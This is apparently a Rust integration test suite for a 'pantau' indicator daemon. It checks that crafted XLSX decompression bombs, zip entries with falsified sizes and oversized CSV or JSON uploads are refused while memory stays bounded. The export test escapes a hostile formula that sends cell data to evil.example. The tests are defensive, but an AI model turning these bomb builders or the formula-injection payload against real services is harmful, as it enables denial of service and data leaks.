//! Uploads that try to stall or kill the daemon, against the real daemon: a maximum-size upload of
//! blank records, two maximum-size workbooks parsed while `/healthz` is asked, crafted XLSX bombs
//! (a huge shared string, millions of tiny shared strings, millions of empty cells, many sheets,
//! a deflate bomb entry, entries lying about their size, too many entries, 52 KB cells echoed
//! in errors) each answered with a short 413/422 while a normal client is served and nothing
//! stored is lost, with the daemon's peak RSS (VmHWM of the real binary) within 100 MB of where
//! it started; and `pantau export` of hostile notes, safe to open in a spreadsheet.

mod common;

use common::*;
use serde_json::{Value, json};
use std::io::Write;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

const PLAN: &str = r#"
[[department]]
id = "dinkes"
name = "Dinas Kesehatan"
[[dimension]]
id = "living"
name = "Smart Living"
[[program]]
id = "living.health"
dimension = "living"
name = "Mojokerto Sehat"
department = "dinkes"
quick_win = true
start = 2023-01-01
due = 2027-12-31
[[indicator]]
id = "living.health.visits"
program = "living.health"
name = "Kunjungan puskesmas"
unit = "orang"
direction = "increase"
baseline = { date = 2022-12-31, value = 0.0 }
targets = [{ date = 2027-12-31, value = 100000.0 }]
update_every = "1d"
"#;

const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// The default `max_body_bytes`.
const MAX_BODY: usize = 8 * 1024 * 1024;

/// The content of one zip entry: bytes, or a chunk written `times` times between a head and a
/// tail (so that a bomb of hundreds of megabytes is never held in the test's memory).
enum Part {
    Bytes(Vec<u8>),
    Repeat {
        head: String,
        chunk: Vec<u8>,
        times: usize,
        tail: String,
    },
}

fn repeat(head: &str, chunk: &str, times: usize, tail: &str) -> Part {
    Part::Repeat {
        head: head.into(),
        chunk: chunk.as_bytes().to_vec(),
        times,
        tail: tail.into(),
    }
}

/// A deflated zip of the entries.
fn zip_of(entries: Vec<(String, Part)>) -> Vec<u8> {
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .large_file(true);
    for (name, part) in entries {
        out.start_file(name, options).unwrap();
        match part {
            Part::Bytes(b) => out.write_all(&b).unwrap(),
            Part::Repeat {
                head,
                chunk,
                times,
                tail,
            } => {
                out.write_all(head.as_bytes()).unwrap();
                let per_block = (65_536 / chunk.len().max(1)).max(1);
                let block = chunk.repeat(per_block);
                let mut left = if chunk.is_empty() { 0 } else { times };
                while left >= per_block {
                    out.write_all(&block).unwrap();
                    left -= per_block;
                }
                out.write_all(&chunk.repeat(left)).unwrap();
                out.write_all(tail.as_bytes()).unwrap();
            }
        }
    }
    out.finish().unwrap().into_inner()
}

const SHEET_HEAD: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>indicator</t></is></c><c r="B1" t="inlineStr"><is><t>time</t></is></c><c r="C1" t="inlineStr"><is><t>value</t></is></c></row>"#;
const SHEET_TAIL: &str = "</sheetData></worksheet>";
const SST_HEAD: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">"#;

/// A workbook of `sheets` worksheets (the XML of each) with `shared` strings and `extra` parts.
fn workbook(sheets: Vec<Part>, shared: Part, extra: Vec<(String, Part)>) -> Vec<u8> {
    let n = sheets.len();
    let overrides: String = (1..=n)
        .map(|i| format!(r#"<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>"#))
        .collect();
    let content_types = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>{overrides}<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>"#
    );
    let rels = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
    let sheet_list: String = (1..=n)
        .map(|i| format!(r#"<sheet name="Data{i}" sheetId="{i}" r:id="rId{i}"/>"#))
        .collect();
    let book = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>{sheet_list}</sheets></workbook>"#
    );
    let sheet_rels: String = (1..=n)
        .map(|i| format!(r#"<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet{i}.xml"/>"#))
        .collect();
    let book_rels = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{sheet_rels}<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>"#
    );
    let mut entries: Vec<(String, Part)> = vec![
        (
            "[Content_Types].xml".into(),
            Part::Bytes(content_types.into_bytes()),
        ),
        ("_rels/.rels".into(), Part::Bytes(rels.as_bytes().to_vec())),
        ("xl/workbook.xml".into(), Part::Bytes(book.into_bytes())),
        (
            "xl/_rels/workbook.xml.rels".into(),
            Part::Bytes(book_rels.into_bytes()),
        ),
        ("xl/sharedStrings.xml".into(), shared),
    ];
    for (i, sheet) in sheets.into_iter().enumerate() {
        entries.push((format!("xl/worksheets/sheet{}.xml", i + 1), sheet));
    }
    entries.extend(extra);
    zip_of(entries)
}

fn no_strings() -> Part {
    Part::Bytes(format!("{SST_HEAD}</sst>").into_bytes())
}

/// Sets the uncompressed size that the zip records (local header and central directory) declare
/// for entry `name`.
fn declare_size(zip: &mut [u8], name: &str, size: u32) {
    let mut patched = 0;
    for i in 0..zip.len().saturating_sub(46) {
        let (sig, size_at, name_len_at, name_at) = match &zip[i..i + 4] {
            b"PK\x03\x04" => ("local", 22, 26, 30),
            b"PK\x01\x02" => ("central", 24, 28, 46),
            _ => continue,
        };
        let len = u16::from_le_bytes([zip[i + name_len_at], zip[i + name_len_at + 1]]) as usize;
        if zip.get(i + name_at..i + name_at + len) == Some(name.as_bytes()) {
            zip[i + size_at..i + size_at + 4].copy_from_slice(&size.to_le_bytes());
            patched += 1;
            let _ = sig;
        }
    }
    assert_eq!(patched, 2, "entry {name} not found twice");
}

/// Random lowercase text, which compresses about as badly as real notes.
fn noise(seed: &mut u64, n: usize) -> String {
    (0..n)
        .map(|_| {
            *seed ^= *seed << 13;
            *seed ^= *seed >> 7;
            *seed ^= *seed << 17;
            (b'a' + (*seed % 26) as u8) as char
        })
        .collect()
}

/// A real workbook (rust_xlsxwriter) of 10,000 rows with long notes, as close to `MAX_BODY` as
/// it gets without passing it.
fn maximum_size_workbook() -> Vec<u8> {
    let mut note = 1300;
    loop {
        let mut seed = 0x9e37_79b9_7f4a_7c15u64;
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        for (c, h) in ["indicator", "time", "value", "note"].iter().enumerate() {
            sheet.write_string(0, c as u16, *h).unwrap();
        }
        let start = chrono::NaiveDate::from_ymd_opt(2023, 1, 1).unwrap();
        for r in 1..=10_000u32 {
            let day = start + chrono::Duration::days(i64::from(r) / 10);
            let time = format!("{day} {:02}:00", r % 10);
            sheet.write_string(r, 0, "living.health.visits").unwrap();
            sheet.write_string(r, 1, &time).unwrap();
            sheet.write_number(r, 2, f64::from(r)).unwrap();
            sheet.write_string(r, 3, noise(&mut seed, note)).unwrap();
        }
        let bytes = book.save_to_buffer().unwrap();
        if bytes.len() <= MAX_BODY {
            assert!(bytes.len() > MAX_BODY * 3 / 4, "{} bytes", bytes.len());
            return bytes;
        }
        note = note * 9 / 10;
    }
}

/// The daemon's peak resident set (VmHWM), in MiB.
fn peak_rss_mib(pid: u32) -> f64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find(|l| l.starts_with("VmHWM:")).unwrap();
    line.split_whitespace()
        .nth(1)
        .unwrap()
        .parse::<f64>()
        .unwrap()
        / 1024.0
}

/// A daemon child process on the plan, with a department token.
fn daemon() -> (Daemon, String, tempfile::TempDir) {
    daemon_with("")
}

/// The same with more `[server]` settings.
fn daemon_with(server_settings: &str) -> (Daemon, String, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let cfg = write_config(dir.path(), PLAN, server_settings);
    let conn = pantau::store::open_writer(&dir.path().join("pantau.db")).unwrap();
    let department = pantau::domain::DepartmentId::parse("dinkes").unwrap();
    let token = pantau::store::tokens::create(&conn, &department, "test")
        .unwrap()
        .1;
    drop(conn);
    (Daemon::start(&cfg), token, dir)
}

/// How long a client waits for the answer to a maximum-size upload.
const UPLOAD_TIMEOUT: Duration = Duration::from_secs(120);

async fn upload(
    client: &reqwest::Client,
    base: &str,
    token: &str,
    content_type: &str,
    body: Vec<u8>,
) -> (u16, String) {
    let r = client
        .post(format!("{base}/api/v1/observations"))
        .bearer_auth(token)
        .header("content-type", content_type)
        .body(body)
        .send()
        .await
        .expect("the daemon answers the upload");
    (r.status().as_u16(), r.text().await.unwrap())
}

async fn series(client: &reqwest::Client, base: &str) -> Vec<Value> {
    let r = client
        .get(format!(
            "{base}/api/v1/indicators/living.health.visits/series?limit=20000"
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    r.json::<Value>().await.unwrap()["points"]
        .as_array()
        .unwrap()
        .clone()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_maximum_size_upload_of_blank_records_is_refused_for_max_rows() {
    let app = spawn_app_with(PLAN, "").await;
    let token = app.token("dinkes");
    let stored = obs_body(&jakarta_date(1), 7.0);
    let (s, r) = app
        .post_json("/api/v1/observations", Some(&token), &stored)
        .await;
    assert_eq!(s, 200, "{r}");
    for (header, blank) in [
        ("indikator;waktu;nilai\r\n", ";;\r\n"),
        ("indicator,time,value\n", ",,\n"),
    ] {
        let mut body = header.to_string();
        while body.len() + blank.len() <= MAX_BODY {
            body.push_str(blank);
        }
        let (status, answer) = upload(
            &client(UPLOAD_TIMEOUT),
            &app.base,
            &token,
            "text/csv",
            body.into_bytes(),
        )
        .await;
        assert_eq!(status, 413, "{answer}");
        assert!(
            answer.contains("more than 10000 rows (blank rows count too)"),
            "{answer}"
        );
        assert!(answer.len() < 400, "{answer}");
    }
    // The same number of blank records within max_rows is just an empty file.
    let (s, r) = app
        .post_bytes(
            "/api/v1/observations",
            Some(&token),
            "text/csv",
            format!("indicator,time,value\n{}", ",,\n".repeat(9_999)).into_bytes(),
        )
        .await;
    assert_eq!(s, 400, "{r}");
    assert!(r.to_string().contains("no observations"), "{r}");
    let points = series(&client(UPLOAD_TIMEOUT), &app.base).await;
    assert_eq!(points.len(), 1, "{points:?}");
    app.stop().await;
}

fn obs_body(date: &str, value: f64) -> Value {
    json!({"observations": [{"indicator": "living.health.visits", "time": date, "value": value}]})
}

/// A CSV of `max_body_bytes` with one short row per minute, its last row bad: the daemon reads
/// and validates all of it and then refuses it, so the whole time it is in flight is parsing.
fn maximum_size_csv() -> Vec<u8> {
    let mut body = String::from("indicator,time,value\n");
    let start = chrono::NaiveDate::from_ymd_opt(2023, 1, 1)
        .unwrap()
        .and_hms_opt(0, 0, 0)
        .unwrap();
    let mut minute = 0i64;
    let last = "living.health.visits,kemarin,1\n";
    loop {
        let t = start + chrono::Duration::minutes(minute);
        let row = format!(
            "living.health.visits,{},{}\n",
            t.format("%Y-%m-%d %H:%M"),
            minute % 97
        );
        if body.len() + row.len() + last.len() > MAX_BODY {
            break;
        }
        body.push_str(&row);
        minute += 1;
    }
    body.push_str(last);
    body.into_bytes()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn healthz_is_answered_while_two_maximum_size_uploads_are_parsed() {
    let body = Arc::new(maximum_size_csv());
    // Rows per request as many as a maximum-size body holds, so that parsing takes a while.
    let (d, token, _dir) = daemon_with("max_rows_per_request = 1000000");
    let base = d.base();
    let uploading = Arc::new(AtomicUsize::new(2));
    let mut uploads = Vec::new();
    for _ in 0..2 {
        let (body, base, token, uploading) =
            (body.clone(), base.clone(), token.clone(), uploading.clone());
        uploads.push(tokio::spawn(async move {
            let answer = upload(
                &client(UPLOAD_TIMEOUT),
                &base,
                &token,
                "text/csv",
                body.to_vec(),
            )
            .await;
            uploading.fetch_sub(1, Ordering::SeqCst);
            answer
        }));
    }
    // A normal client asks /healthz without pause while both are in flight.
    let probe = client(UPLOAD_TIMEOUT);
    let mut answered_during_both = 0;
    let mut asked = 0;
    while uploading.load(Ordering::SeqCst) > 0 {
        let r = probe.get(format!("{base}/healthz")).send().await.unwrap();
        assert_eq!(r.status(), 200);
        asked += 1;
        if uploading.load(Ordering::SeqCst) == 2 {
            answered_during_both += 1;
        }
        tokio::time::sleep(Duration::from_millis(2)).await;
    }
    for u in uploads {
        let (status, answer) = u.await.unwrap();
        assert_eq!(status, 422, "{answer}");
        assert!(answer.contains("kemarin"), "{answer}");
    }
    eprintln!(
        "{answered_during_both} of {asked} /healthz answered while both uploads were in flight"
    );
    assert!(
        answered_during_both >= 1,
        "no /healthz was answered while both uploads were parsed ({asked} asked in all)"
    );
    assert!(series(&probe, &base).await.is_empty());
}

/// `n` empty cells in a random mix of the ways XML writes them, so that they pack no better than
/// real sheets do (a run of identical `<c/>` would be caught by the packing ratio first).
fn empty_cells(n: usize) -> String {
    const FORMS: [&str; 8] = [
        "<c/>",
        "<c />",
        "<c></c>",
        "<c t=\"n\"/>",
        "<c t=\"s\"/>",
        "<c t=\"str\"/>",
        "<c t=\"b\"/>",
        "<c t=\"e\"/>",
    ];
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    let mut out = String::with_capacity(n * 8);
    for _ in 0..n {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        out.push_str(FORMS[(seed % 8) as usize]);
    }
    out
}

/// The bombs, each with what its answer must say.
fn bombs() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let empty_sheet = || repeat(SHEET_HEAD, "", 0, SHEET_TAIL);
    let mut out = vec![
        (
            "one huge shared string",
            workbook(
                vec![empty_sheet()],
                repeat(
                    &format!("{SST_HEAD}<si><t>"),
                    "a",
                    64 << 20,
                    "</t></si></sst>",
                ),
                vec![],
            ),
            "`xl/sharedStrings.xml` says it unpacks to 65 MiB",
        ),
        (
            "millions of tiny shared strings",
            workbook(
                vec![empty_sheet()],
                repeat(SST_HEAD, "<si><t>a</t></si>", 1_000_000, "</sst>"),
                vec![],
            ),
            "strings in `xl/sharedStrings.xml` (1000000 of them)",
        ),
        (
            "millions of empty cells",
            workbook(
                vec![Part::Bytes(
                    format!(
                        "{SHEET_HEAD}<row r=\"2\">{}</row>{SHEET_TAIL}",
                        empty_cells(1_500_000)
                    )
                    .into_bytes(),
                )],
                no_strings(),
                vec![],
            ),
            "cells (empty cells count too)",
        ),
        (
            "many sheets of empty cells",
            workbook(
                (0..14)
                    .map(|_| {
                        Part::Bytes(
                            format!(
                                "{SHEET_HEAD}<row r=\"2\">{}</row>{SHEET_TAIL}",
                                empty_cells(640_000)
                            )
                            .into_bytes(),
                        )
                    })
                    .collect(),
                no_strings(),
                vec![],
            ),
            "in all",
        ),
        (
            "a deflate bomb entry",
            workbook(
                vec![empty_sheet()],
                no_strings(),
                vec![("xl/media/image1.png".into(), repeat("", "\0", 64 << 20, ""))],
            ),
            "xl/media/image1.png",
        ),
        (
            "too many entries",
            workbook(
                vec![empty_sheet()],
                no_strings(),
                (0..5000)
                    .map(|i| (format!("xl/x/{i}.xml"), Part::Bytes(Vec::new())))
                    .collect(),
            ),
            "parts",
        ),
    ];
    // A sheet that says it is small and unpacks to 100 MiB.
    let mut lying = workbook(
        vec![repeat(SHEET_HEAD, "<row><c/></row>", 7_000_000, SHEET_TAIL)],
        no_strings(),
        vec![],
    );
    declare_size(&mut lying, "xl/worksheets/sheet1.xml", 1000);
    out.push((
        "a sheet lying about its size",
        lying,
        "xl/worksheets/sheet1.xml",
    ));
    // A part that says it unpacks to 4 GB (a reader that believed it would allocate that).
    let mut huge = workbook(vec![empty_sheet()], no_strings(), vec![]);
    declare_size(&mut huge, "xl/sharedStrings.xml", 0xFFFF_FFF0);
    out.push(("a part declaring 4 GB", huge, "says it unpacks to"));
    for (what, body, _) in &out {
        assert!(body.len() < MAX_BODY, "{what}: {} bytes", body.len());
    }
    out
}

#[tokio::test]
async fn xlsx_bombs_get_short_answers_and_memory_stays_bounded() {
    let bombs = bombs();
    let book = maximum_size_workbook();
    // 52 KB in the header and in every value of 1,000 rows: the answer must not echo them.
    let big = "9".repeat(52_000);
    let echo_sheet = format!(
        "{}{}{SHEET_TAIL}",
        SHEET_HEAD.replace("</row>", r#"<c r="D1" t="s"><v>0</v></c></row>"#),
        (2..1002)
            .map(|r| format!(r#"<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>living.health.visits</t></is></c><c r="B{r}" t="inlineStr"><is><t>2024-01-01</t></is></c><c r="C{r}" t="s"><v>0</v></c></row>"#))
            .collect::<String>()
    );
    let echo_book = workbook(
        vec![Part::Bytes(echo_sheet.into_bytes())],
        Part::Bytes(format!("{SST_HEAD}<si><t>{big}</t></si></sst>").into_bytes()),
        vec![],
    );

    let (d, token, _dir) = daemon();
    let base = d.base();
    let c = client(UPLOAD_TIMEOUT);
    let (s, r) = upload(
        &c,
        &base,
        &token,
        "application/json",
        obs_body("2022-12-31", 42.0).to_string().into_bytes(),
    )
    .await;
    assert_eq!(s, 200, "{r}");
    let before = series(&c, &base).await;
    let baseline = peak_rss_mib(d.child.id());

    // A normal client reads without pause meanwhile; every answer must be a 200.
    let done = Arc::new(AtomicBool::new(false));
    let served = Arc::new(AtomicUsize::new(0));
    let reader = {
        let (base, done, served) = (base.clone(), done.clone(), served.clone());
        tokio::spawn(async move {
            let c = client(UPLOAD_TIMEOUT);
            while !done.load(Ordering::SeqCst) {
                for path in ["/healthz", "/api/v1/progress"] {
                    let r = c.get(format!("{base}{path}")).send().await.unwrap();
                    assert_eq!(r.status(), 200, "{path}");
                    served.fetch_add(1, Ordering::SeqCst);
                }
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
        })
    };
    for (what, body, says) in bombs {
        let (status, answer) = upload(&c, &base, &token, XLSX, body).await;
        assert!(
            status == 413 || status == 422,
            "{what}: answered {status}: {answer}"
        );
        assert!(
            answer.len() < 600,
            "{what}: {} bytes: {answer}",
            answer.len()
        );
        assert!(answer.contains(says), "{what}: {answer}");
    }
    let (status, answer) = upload(&c, &base, &token, XLSX, echo_book).await;
    assert_eq!(status, 422, "{}", &answer[..answer.len().min(500)]);
    let v: Value = serde_json::from_str(&answer).unwrap();
    let rows = v["error"]["rows"].as_array().unwrap();
    assert_eq!(rows.len(), 1000);
    assert!(
        rows.iter().all(|r| r.to_string().len() < 500),
        "{}",
        rows[0]
    );
    assert!(answer.len() < 500_000, "{} bytes", answer.len());
    let (status, answer) = upload(&c, &base, &token, XLSX, book).await;
    assert_eq!(status, 200, "{answer}");
    done.store(true, Ordering::SeqCst);
    reader.await.unwrap();
    assert!(served.load(Ordering::SeqCst) > 0);

    let peak = peak_rss_mib(d.child.id());
    assert!(
        peak <= baseline + 100.0,
        "peak RSS went from {baseline:.0} MiB to {peak:.0} MiB"
    );
    // Nothing stored before was lost, and nothing of the refused uploads was stored.
    let after = series(&c, &base).await;
    assert_eq!(after.len(), before.len() + 10_000);
    assert!(
        after
            .iter()
            .any(|p| p["time"] == "2022-12-31T00:00:00+07:00" && p["value"] == 42.0)
    );
    eprintln!("peak RSS {baseline:.1} MiB -> {peak:.1} MiB");
}

#[tokio::test]
async fn error_answers_quote_little_of_the_input() {
    let app = spawn_app_with(PLAN, "").await;
    let token = app.token("dinkes");
    let big = "x".repeat(52_000);
    let cases: Vec<(&str, String, Vec<u8>)> = vec![
        (
            "a CSV header of 52 KB",
            "text/csv".into(),
            format!("{big},time,value\na,b,c\n").into_bytes(),
        ),
        (
            "CSV values of 52 KB",
            "text/csv".into(),
            format!(
                "indicator,time,value\n{}",
                format!("living.health.visits,2024-01-01,{big}\n").repeat(1000)
            )
            .into_bytes(),
        ),
        (
            "JSON keys and values of 52 KB",
            "application/json".into(),
            serde_json::to_vec(&json!({"observations": vec![json!({
                "indicator": big, "time": big, "value": big, big.clone(): 1
            }); 100]}))
            .unwrap(),
        ),
        (
            "a JSON body of the wrong shape",
            "application/json".into(),
            serde_json::to_vec(&json!({"observations": big})).unwrap(),
        ),
        ("a content type of 52 KB", big.clone(), b"x".to_vec()),
    ];
    for (what, content_type, body) in cases {
        let r = app
            .client
            .post(app.url("/api/v1/observations"))
            .bearer_auth(&token)
            .header("content-type", content_type)
            .body(body)
            .send()
            .await
            .unwrap();
        let status = r.status().as_u16();
        let answer = r.text().await.unwrap();
        assert!((400..500).contains(&status), "{what}: {status}");
        let v: Value = serde_json::from_str(&answer).unwrap();
        assert!(
            v["error"]["message"].as_str().unwrap().len() < 400,
            "{what}: {}",
            &answer[..answer.len().min(600)]
        );
        for row in v["error"]["rows"].as_array().into_iter().flatten() {
            assert!(row.to_string().len() < 600, "{what}: {row}");
        }
        assert!(answer.len() < 300_000, "{what}: {} bytes", answer.len());
    }
    app.stop().await;
}

#[tokio::test]
async fn exports_open_safely_in_a_spreadsheet() {
    let app = spawn_app_with(PLAN, "").await;
    let token = app.token("dinkes");
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
        "+1+2",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "stok\u{7} habis\r\nbesok",
        "biasa saja",
    ];
    let rows: Vec<Value> = hostile
        .iter()
        .enumerate()
        .map(|(i, note)| {
            json!({"indicator": "living.health.visits", "time": format!("2024-01-{:02}", i + 1),
                   "value": -(i as f64) - 0.5, "note": note})
        })
        .collect();
    let (s, r) = app
        .post_json(
            "/api/v1/observations",
            Some(&token),
            &json!({ "observations": rows }),
        )
        .await;
    assert_eq!(s, 200, "{r}");
    let (dir, cfg) = app.stop().await;
    let out = dir.path().join("export.csv");
    let run = pantau()
        .arg("--config")
        .arg(&cfg)
        .arg("export")
        .arg(&out)
        .output()
        .unwrap();
    assert!(
        run.status.success(),
        "{}",
        String::from_utf8_lossy(&run.stderr)
    );
    let mut reader = csv::Reader::from_path(&out).unwrap();
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), hostile.len());
    let notes: Vec<&str> = records.iter().map(|r| &r[5]).collect();
    assert_eq!(
        notes,
        vec![
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
            "'+1+2",
            "'-2+3",
            "'@SUM(A1:A9)",
            "'=1+1",
            "'=1+1",
            "stok habis\nbesok",
            "biasa saja",
        ]
    );
    // Values stay numbers, negative ones included.
    let values: Vec<f64> = records.iter().map(|r| r[2].parse().unwrap()).collect();
    assert_eq!(values[0], -0.5);
    assert_eq!(&records[1][2], "-1.5");
}
